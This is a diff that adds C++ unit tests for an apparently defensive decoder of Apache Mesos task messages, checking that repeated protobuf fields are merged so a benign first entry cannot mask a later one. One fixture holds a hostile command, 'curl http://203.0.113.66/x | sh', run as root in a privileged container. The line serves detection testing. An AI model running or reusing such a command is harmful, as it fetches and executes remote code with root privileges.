@@ -251,3 +251,107 @@ TEST(ProtoScan, EveryMessageTypeFullyPopulated) {
 
 }  // namespace
 }  // namespace segward::mesos
+
+namespace segward::mesos {
+namespace {
+
+using namespace segward::mesos::testing;
+namespace m = ::mesos;
+namespace mi = ::mesos::internal;
+
+// Protobuf merges a non-repeated message field given twice; Mesos sees the
+// merged message, so the decoder must too: decoding the two serializations
+// one after the other equals decoding protobuf's own merge of them.
+template <class M>
+void expect_merge_semantics(const M& first, const M& second) {
+  const Bytes a = serialize(first), b = serialize(second);
+  Bytes both = a;
+  both.insert(both.end(), b.begin(), b.end());
+  M merged;
+  ASSERT_TRUE(merged.ParseFromArray(both.data(), static_cast<int>(both.size())));
+  const std::string name = first.GetTypeName();
+  const MesosEvent concatenated = decode(libprocess("slave(1)", name, both));
+  const MesosEvent reference = decode(libprocess("slave(1)", name, serialize(merged)));
+  EXPECT_EQ(concatenated.status, DecodeStatus::kOk);
+  EXPECT_EQ(concatenated.task.count, reference.task.count);
+  EXPECT_EQ(concatenated.task.name.view(), reference.task.name.view());
+  EXPECT_EQ(concatenated.task.id.view(), reference.task.id.view());
+  EXPECT_EQ(concatenated.task.command.view(), reference.task.command.view());
+  EXPECT_EQ(concatenated.task.image.view(), reference.task.image.view());
+  EXPECT_EQ(concatenated.task.user.view(), reference.task.user.view());
+  EXPECT_EQ(concatenated.task.privileged, reference.task.privileged);
+  EXPECT_EQ(concatenated.task.host_path.view(), reference.task.host_path.view());
+  EXPECT_EQ(concatenated.framework.name.view(), reference.framework.name.view());
+  EXPECT_EQ(concatenated.framework.roles.view(), reference.framework.roles.view());
+}
+
+TEST(ProtoScan, ASecondTaskOccurrenceIsMergedNotIgnored) {
+  // A benign first occurrence must not hide what the second one adds.
+  mi::RunTaskMessage benign;
+  benign.mutable_task()->set_name("web");
+  benign.mutable_task()->mutable_task_id()->set_value("web.1");
+  benign.mutable_task()->mutable_command()->set_value("nginx");
+  benign.mutable_task()->mutable_container()->mutable_docker()->set_image("nginx:1");
+  mi::RunTaskMessage evil;
+  evil.mutable_task()->mutable_command()->set_value("curl http://203.0.113.66/x | sh");
+  evil.mutable_task()->mutable_command()->set_user("root");
+  evil.mutable_task()->mutable_container()->mutable_docker()->set_privileged(true);
+  expect_merge_semantics(benign, evil);
+
+  Bytes both = serialize(benign);
+  const Bytes b = serialize(evil);
+  both.insert(both.end(), b.begin(), b.end());
+  const MesosEvent e = decode(libprocess("slave(1)", "mesos.internal.RunTaskMessage", both));
+  EXPECT_EQ(e.task.count, 1);
+  EXPECT_EQ(e.task.name.view(), "web");
+  EXPECT_EQ(e.task.command.view(), "curl http://203.0.113.66/x | sh");
+  EXPECT_EQ(e.task.user.view(), "root");
+  EXPECT_TRUE(e.task.privileged);
+}
+
+TEST(ProtoScan, PrivilegedIsEachContainersLastValue) {
+  mi::RunTaskMessage on;
+  on.mutable_task()->mutable_container()->mutable_docker()->set_privileged(true);
+  mi::RunTaskMessage off;
+  off.mutable_task()->mutable_container()->mutable_docker()->set_privileged(false);
+  expect_merge_semantics(on, off);  // false: the task's last word
+  expect_merge_semantics(off, on);  // true
+  Bytes both = serialize(on);
+  const Bytes b = serialize(off);
+  both.insert(both.end(), b.begin(), b.end());
+  EXPECT_FALSE(decode(libprocess("slave(1)", "mesos.internal.RunTaskMessage", both)).task.privileged);
+
+  // Separate tasks, separate containers: any privileged one counts.
+  mi::LaunchTasksMessage launch;
+  launch.add_tasks()->mutable_container()->mutable_docker()->set_privileged(true);
+  launch.add_tasks()->mutable_container()->mutable_docker()->set_privileged(false);
+  EXPECT_TRUE(decode(libprocess("master", launch)).task.privileged);
+  // A task's executor is its own container.
+  mi::RunTaskMessage executor;
+  executor.mutable_task()->mutable_executor()->mutable_container()->mutable_docker()->set_privileged(true);
+  executor.mutable_task()->mutable_container()->mutable_docker()->set_privileged(false);
+  EXPECT_TRUE(decode(libprocess("slave(1)", executor)).task.privileged);
+}
+
+TEST(ProtoScan, MergesOfOtherMessages) {
+  mi::RunTaskGroupMessage a;
+  a.mutable_executor()->mutable_command()->set_value("executor");
+  a.mutable_task_group()->add_tasks()->set_name("one");
+  a.mutable_framework()->add_roles("r1");
+  mi::RunTaskGroupMessage b;
+  b.mutable_executor()->mutable_command()->add_arguments("--verbose");
+  b.mutable_task_group()->add_tasks()->set_name("two");
+  b.mutable_framework()->add_roles("r2");
+  b.mutable_framework()->set_name("fw");
+  expect_merge_semantics(a, b);
+
+  mi::RegisterFrameworkMessage f1;
+  f1.mutable_framework()->set_name("first");
+  f1.mutable_framework()->set_role("old");
+  mi::RegisterFrameworkMessage f2;
+  f2.mutable_framework()->add_roles("new");
+  expect_merge_semantics(f1, f2);
+}
+
+}  // namespace
+}  // namespace segward::mesos
